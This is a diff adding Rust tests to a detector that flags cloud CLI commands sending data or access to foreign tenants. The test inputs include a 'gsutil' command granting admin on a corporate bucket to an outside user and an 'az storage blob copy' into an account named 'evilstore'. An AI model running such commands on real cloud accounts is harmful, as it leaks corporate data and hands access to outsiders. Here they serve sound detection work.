@@ -106,3 +106,41 @@ fn an_expired_entry_names_nobody() {
     let alert = told.alert();
     assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (Some("partner"), "foreign"));
 }
+
+/// Google keeps accounts for every project, and their names hold the project's number: whose it is, nobody can see.
+#[test]
+fn a_project_s_number_does_not_tell_whose_it_is() {
+    for member in ["123456789012-compute@developer", "service-123456789012@gcp-sa-pubsub.iam"] {
+        let member = format!("--member=serviceAccount:{member}.gserviceaccount.com");
+        let story = told(&["gcloud", "projects", "add-iam-policy-binding", "corp-prod", &member, "--role=x"]);
+        assert_eq!((story.low().tenant.as_deref(), story.low().tenant_verdict.as_str()), (None, "unknown"));
+    }
+    let both = [
+        "gsutil",
+        "iam",
+        "ch",
+        "serviceAccount:123456789012@cloudbuild.gserviceaccount.com:admin",
+        "user:eve@example.com:admin",
+        "gs://corp-data",
+    ];
+    assert_eq!(told(&both).alert().tenant.as_deref(), Some("eve@example.com"));
+}
+
+/// Of a connection string the account is told, and nothing of the key.
+#[test]
+fn a_connection_string_is_not_an_account() {
+    let line = |account: &str| {
+        let given = format!("DefaultEndpointsProtocol=https;AccountName={account};AccountKey=c2VjcmV0a2V5");
+        let from = "https://corpstore.blob.core.windows.net/c/b";
+        let words = ["az", "storage", "blob", "copy", "start", "--connection-string", &given, "-b", "b"];
+        told(&[&words[..], &["-c", "c", "--source-uri", from]].concat())
+    };
+    let story = line("evilstore");
+    assert_eq!(story.alert().tenant.as_deref(), Some("evilstore"));
+    for record in &story.records {
+        for format in [cloudward::sink::format::text, cloudward::sink::format::ecs] {
+            assert!(!format(record).contains("c2VjcmV0a2V5"), "{}", format(record));
+        }
+    }
+    line("corparchive").none();
+}
